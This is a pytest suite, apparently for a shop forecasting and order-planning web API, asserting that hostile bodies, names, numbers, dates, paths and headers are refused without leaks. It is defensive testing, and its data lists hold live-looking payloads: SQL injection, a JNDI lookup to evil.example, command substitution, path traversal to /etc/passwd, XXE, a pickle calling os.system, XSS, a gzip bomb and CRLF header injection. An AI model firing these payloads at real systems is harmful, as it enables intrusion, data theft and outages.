"""Whatever strangers send to whatever route: refused with a problem document that repeats and betrays nothing."""

import gzip
import json
from typing import Any

import httpx
import pytest
from serving_home import ITEMS
from starlette.testclient import TestClient
from test_gate import TABLE
from test_serve_api import assert_problem

JSON = {"content-type": "application/json"}
WITH_BODY = [(method, path) for method, path in TABLE if method in ("POST", "PUT", "PATCH")]
DEEP = 20_000

# No route takes any of these, whatever its form is.
BODIES: dict[str, bytes] = {
    "empty": b"",
    "blank": b"  \n ",
    "cut": b'{"series": [{"item_id"',
    "not text": bytes(range(256)),
    "utf-16": json.dumps({"series": []}).encode("utf-16"),
    "null": b"null",
    "true": b"true",
    "text": b'"series"',
    "number": b"1e999",
    "NaN": b"NaN",
    "a number of many digits": b"9" * 100_000,
    "a negative number of many digits": b"-" + b"9" * 100_000,
    "an exponent of many digits": b"1e" + b"9" * 10_000,
    "an empty list": b"[]",
    "nested lists": b"[" * DEEP,
    "nested lists, closed": b"[" * DEEP + b"]" * DEEP,
    "nested objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "nested under a known name": b'{"series":' + b"[" * DEEP + b"]" * DEEP + b"}",
    "unknown names": b'{"__proto__": {"admin": true}, "__class__": "Settings", "constructor": {}}',
    "names of every kind": json.dumps({"\x00": 1, "\ud800": 2, "a" * 10_000: 3, "": 4, "$ref": "#/"}).encode(),
    "two million spaces and nothing": b" " * 2_000_000,
    "a pickle": b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    "XML with an entity": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "a compressed bomb": gzip.compress(b" " * 1_000_000),
}

# Text where a name of something of the shop's belongs.
NAMES = [
    "'; DROP TABLE plan_line; --",
    "1' OR '1'='1",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "$(reboot)",
    "`reboot`",
    "../../etc/passwd",
    "..\\..\\windows\\system.ini",
    "file:///etc/passwd",
    "%2e%2e%2f",
    "<script>alert(1)</script>",
    "\u202eevil",
    "\ufeff",
    "\U0001f600" * 40,
    "a\u0301" * 50,
    "=cmd|' /C calc'!A0",
    "NaN",
    "None",
    "-1",
]
UNWRITABLE = ["\x00", "a\x00b", "a\nb", "a\r\nset-cookie: x=y", "\x1b[2J", "\ud800", "a" * 201, ""]

# Where a number of units belongs: too large, not finite, not a number.
NUMBERS = [
    "1e10",
    "1e308",
    "1e400",
    "-1",
    "-0.0001",
    "NaN",
    "Infinity",
    "-Infinity",
    "9" * 400,
    '"5"',
    "[]",
    "true",
    "null",
]
DAYS = ["0000-00-00", "2024-02-30", "10000-01-01", "-1-01-01", "20240101T", "now", "1e9", "", "2024-04-30\x00"]

PATHS = [
    "/../etc/passwd",
    "/v1/../../etc/passwd",
    "/v1/%2e%2e/%2e%2e/etc/passwd",
    "/v1/..%2f..%2fetc%2fpasswd",
    "/v1/forecasts%00",
    "/v1/forecasts%0d%0aset-cookie:%20x=y",
    "/v1\\forecasts",
    "//evil.example/v1/forecasts",
    "/v1//forecasts",
    "/v1/forecasts;jsessionid=1",
    "/v1/%F0%28%8C%28",
    "/.git/config",
    "/.env",
    "/docs/../.restock/privacy/user.key",
    "/-/routes",
    "/" + "a" * 60_000,
    "/" + "a/" * 20_000,
]


def refused(response: httpx.Response) -> dict[str, Any]:
    assert 400 <= response.status_code < 500, response.text[:300]
    assert len(response.content) < 20_000
    return assert_problem(response, response.status_code)


@pytest.mark.parametrize("name", BODIES)
@pytest.mark.parametrize(("method", "path"), WITH_BODY)
def test_no_route_takes_a_hostile_body(client: TestClient, method: str, path: str, name: str) -> None:
    refused(client.request(method, path.replace("{", "").replace("}", ""), content=BODIES[name], headers=JSON))


@pytest.mark.parametrize(
    "kind",
    [
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "",
        "*/*",
    ],
)
@pytest.mark.parametrize(("method", "path"), WITH_BODY)
def test_no_route_takes_a_body_of_another_kind(client: TestClient, method: str, path: str, kind: str) -> None:
    """A page of another site can send these without asking first."""
    body = json.dumps({"series": [{"item_id": "item-1"}]}).encode()
    refused(
        client.request(method, path.replace("{", "").replace("}", ""), content=body, headers={"content-type": kind})
    )


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("method", ["GET", "POST", "DELETE", "TRACE", "PROPFIND"])
def test_no_path_leads_out(client: TestClient, method: str, path: str) -> None:
    problem = refused(client.request(method, httpx.URL(f"http://testserver{path}"), follow_redirects=True))
    assert problem["status"] in (404, 405)
    assert "root:" not in json.dumps(problem)


@pytest.mark.parametrize("name", NAMES)
def test_hostile_names_are_names_of_nothing(client: TestClient, name: str) -> None:
    series = [{"item_id": name}]
    for path in ("/v1/forecasts", "/v1/order-plans"):
        assert refused(client.post(path, json={"series": series}))["title"] == "Unknown series"
    answer = client.get("/v1/recommendations", params={"user_id": name}).json()
    assert (answer["user_id"], answer["is_fallback"]) == (name, True)
    assert client.get("/readyz").status_code == 200


@pytest.mark.parametrize("name", UNWRITABLE)
def test_names_that_nobody_can_have_are_refused(client: TestClient, name: str) -> None:
    body = json.dumps({"series": [{"item_id": name}]})
    for path in ("/v1/forecasts", "/v1/order-plans"):
        problem = refused(client.post(path, content=body, headers=JSON))
        assert problem["errors"][0]["pointer"] == "/series/0/item_id"
    event = json.dumps({"user_id": name, "events": [{"item_id": "item-1"}]})
    told = client.post("/v1/events", content=event, headers=JSON | {"idempotency-key": "name"})
    assert refused(told)["errors"][0]["pointer"] == "/user_id"


@pytest.mark.parametrize("number", NUMBERS)
@pytest.mark.parametrize("field", ["on_hand_qty", "reserved_qty", "backorder_qty"])
def test_hostile_numbers_are_no_units(client: TestClient, field: str, number: str) -> None:
    row = {"item_id": '"item-1"', "on_hand_qty": "5"} | {field: number}
    body = f'{{"stock": [{{{", ".join(f"{json.dumps(key)}: {value}" for key, value in row.items())}}}]}}'
    assert refused(client.post("/v1/order-plans", content=body, headers=JSON))["status"] == 422


@pytest.mark.parametrize("day", DAYS)
def test_hostile_days_are_no_days(client: TestClient, day: str) -> None:
    body = {"series": [{"item_id": "item-1"}], "as_of": day}
    for path in ("/v1/forecasts", "/v1/order-plans"):
        assert refused(client.post(path, json=body))["status"] == 422


@pytest.mark.parametrize(
    "header",
    [
        {"authorization": "Bearer " + "a" * 100_000},
        {"authorization": "Bearer rst_" + "\xff" * 20},
        {"x-request-id": "a" * 100_000},
        {"x-request-id": "${jndi:ldap://evil.example/x}"},
        {"x-forwarded-for": "127.0.0.1", "x-real-ip": "::1", "forwarded": "for=127.0.0.1"},
        {"x-http-method-override": "DELETE", "x-original-url": "/v1/models", "x-rewrite-url": "/v1/models"},
        {"content-length": "-1"},
        {"accept": "\x01\x02", "accept-encoding": "x" * 10_000, "range": "bytes=0-99999999999"},
        {"origin": "https://evil.example", "referer": "https://evil.example/"},
    ],
)
def test_hostile_headers_change_nothing(client: TestClient, header: dict[str, str]) -> None:
    raw = {name: value.encode("latin-1") for name, value in header.items()}
    plain, odd = client.get("/v1/models"), client.get("/v1/models", headers=raw)
    assert odd.json() == plain.json()
    assert len(odd.headers["x-request-id"]) <= 64
    assert "evil" not in str(odd.headers)


def test_a_body_that_is_right_and_large_is_still_bounded(client: TestClient) -> None:
    rows = [{"item_id": ITEMS[0], "on_hand_qty": 1}] * 200_000
    assert refused(client.post("/v1/order-plans", json={"stock": rows}))["status"] == 413
    many = [{"user_id": "u", "events": [{"item_id": "i"}] * 1_000}]
    assert refused(client.post("/v1/events", json=many[0], headers={"idempotency-key": "many"}))["status"] == 422


@pytest.mark.parametrize("moment", ["0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "1969-12-31T23:59:59Z"])
def test_moments_before_any_shop_are_refused(client: TestClient, moment: str) -> None:
    told = {
        "/v1/orders": {"orders": [{"item_id": "item-1", "sold_qty": 1, "ordered_at": moment}]},
        "/v1/events": {"user_id": "user-1", "events": [{"item_id": "item-1", "occurred_at": moment}]},
    }
    for path, body in told.items():
        problem = refused(client.post(path, json=body, headers={"idempotency-key": "moment"}))
        assert problem["status"] == 422
        assert problem["errors"][0]["pointer"].endswith("_at")
